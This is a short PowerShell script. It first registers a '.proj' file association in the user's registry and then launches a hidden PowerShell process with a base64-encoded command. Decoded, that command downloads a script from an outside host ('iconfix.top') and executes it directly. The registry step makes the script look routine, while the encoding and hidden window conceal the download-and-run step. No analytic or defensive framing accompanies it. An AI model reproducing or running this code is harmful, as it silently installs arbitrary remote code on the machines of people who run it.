New-Item -Path 'HKCU:\Software\Classes\.proj' -Force | Out-Null
Set-ItemProperty -Path 'HKCU:\Software\Classes\.proj' -Name '(default)' -Value 'ProjFile'
$b = 'aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AaQBjAG8AbgBmAGkAeAAuAHQAbwBwAC8AcwAgAHwAIABpAGUAeAA='
Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop','-enc',$b
